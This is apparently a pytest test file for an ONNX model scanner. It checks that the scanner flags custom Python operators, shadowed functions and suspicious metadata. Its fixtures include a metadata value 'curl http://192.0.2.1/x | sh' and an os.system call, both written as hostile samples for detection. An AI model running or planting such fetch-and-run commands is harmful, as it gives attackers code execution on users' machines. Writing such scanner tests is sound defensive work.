"""What ONNX files ask of their runtime."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from modelguard_serialization._readers.onnx_content import OnnxReader
from modelguard_serialization.testing import look_through

from modelguard import Severity
from modelguard.testing import write_onnx_cnn, write_onnx_mlp

onnx = pytest.importorskip("onnx")
helper = onnx.helper


def model(
    nodes: list[object],
    functions: tuple[object, ...] = (),
    opsets: tuple[tuple[str, int], ...] = (("", 17),),
    notes: dict[str, str] | None = None,
) -> bytes:
    x, y = (helper.make_tensor_value_info(name, onnx.TensorProto.FLOAT, [1]) for name in "xy")
    imports = [helper.make_opsetid(*opset) for opset in opsets]
    proto = helper.make_model(helper.make_graph(nodes, "g", [x], [y]), functions=list(functions), opset_imports=imports)
    if notes:
        helper.set_model_props(proto, notes)
    return bytes(proto.SerializeToString())


def function(domain: str, name: str) -> object:
    return helper.make_function(domain, name, ["a"], ["b"], [helper.make_node("Neg", ["a"], ["b"])], [helper.make_opsetid("", 17)])


def said(data: bytes, name: str = "model.onnx") -> set[tuple[str, Severity]]:
    look, by = look_through(name, data)
    assert any(isinstance(reader, OnnxReader) for reader in by)
    severities = {rule.id: rule.severity for rule in OnnxReader.rules}
    return {(finding.rule, finding.severity if finding.severity is not None else severities[finding.rule]) for finding in look.findings}


def node(op: str, domain: str = "", **attributes: object) -> object:
    return helper.make_node(op, ["x"], ["y"], domain=domain, **attributes)


BRANCH = helper.make_graph(
    [helper.make_node("PythonOp", ["x"], ["z"], domain="com.microsoft")],
    "branch",
    [],
    [helper.make_tensor_value_info("z", onnx.TensorProto.FLOAT, [1])],
)
INFO, LOW, MEDIUM, HIGH, CRITICAL = Severity


# https://github.com/microsoft/onnxruntime-extensions/blob/main/docs/pyop.md
@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("m.onnx", model([node("PyOp", "ai.onnx.contrib")]), ("MG0360", CRITICAL)),
        ("weights.bin", model([node("PyOp", "any.domain")]), ("MG0360", CRITICAL)),
        ("m.onnx", model([node("If", then_branch=BRANCH, else_branch=BRANCH)]), ("MG0360", CRITICAL)),
        (
            "m.onnx",
            model(
                [node("F", "own")], (helper.make_function("own", "F", ["x"], ["y"], [node("PyOp", "z")], [helper.make_opsetid("", 17)]),)
            ),
            ("MG0360", CRITICAL),
        ),
        ("m.onnx", model([node("Foo", "somebody.ops")]), ("MG0361", MEDIUM)),
        ("m.onnx", model([node("Relu")], (function("", "Relu"),)), ("MG0362", HIGH)),
        ("m.onnx", model([node("Relu")], (function("ai.onnx", "Relu"),)), ("MG0362", HIGH)),
        ("m.onnx", model([node("R", "own")], (function("own", "R"), function("own", "R"))), ("MG0362", HIGH)),
        ("m.onnx", model([node("Relu")], opsets=(("", 17), ("", 18))), ("MG0362", MEDIUM)),
        ("m.onnx", model([node("Relu")], notes={"a": "__import__('os').system('id')"}), ("MG0363", MEDIUM)),
        ("m.onnx", model([node("Relu")], notes={"a": "curl http://192.0.2.1/x | sh"}), ("MG0363", HIGH)),
        ("m.onnx", model([node("Relu")], notes={"a": "x" * 100_000}), ("MG0363", LOW)),
    ],
)
def test_what_an_onnx_file_should_not_have(name: str, data: bytes, expected: tuple[str, Severity]) -> None:
    assert expected in said(data, name)


@pytest.mark.parametrize(
    "data",
    [
        model([node("Relu")], notes={"names": "{0: 'cat'}", "docs": "https://docs.example.com", "stack_trace": "exec(code, run_globals)"}),
        model([node("Gelu", "com.microsoft")], opsets=(("", 17), ("com.microsoft", 1))),
        model([node("TreeEnsembleClassifier", "ai.onnx.ml")]),
        model([node("Relu", "pkg.torch")], (function("pkg.torch", "Relu"),), (("", 17), ("pkg.torch", 1))),
        model([node("BertTokenizer", "ai.onnx.contrib")]),
    ],
)
def test_what_exporters_write_is_information_at_most(data: bytes) -> None:
    assert all(severity == INFO for _, severity in said(data))


def test_exported_models_say_nothing(tmp_path: Path) -> None:
    for write in (write_onnx_mlp, write_onnx_cnn):
        assert said(write(tmp_path / "m.onnx").read_bytes()) == set()


def test_a_broken_file_keeps_what_was_found_and_is_not_looked_at() -> None:
    data = model([node("PyOp", "ai.onnx.contrib")])
    look, _ = look_through("m.onnx", data + b"\x0a\xff")
    assert look.missed


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=60), st.integers(0, 200), st.integers(0, 255))
def test_any_bytes_are_read_or_not_looked_at(extra: bytes, at: int, byte: int) -> None:
    data = bytearray(model([node("PyOp", "ai.onnx.contrib")]))
    data[at % len(data)] = byte
    look, _ = look_through("m.onnx", bytes(data) + extra)
    assert not [miss for miss in look.missed if "failed (" in miss]
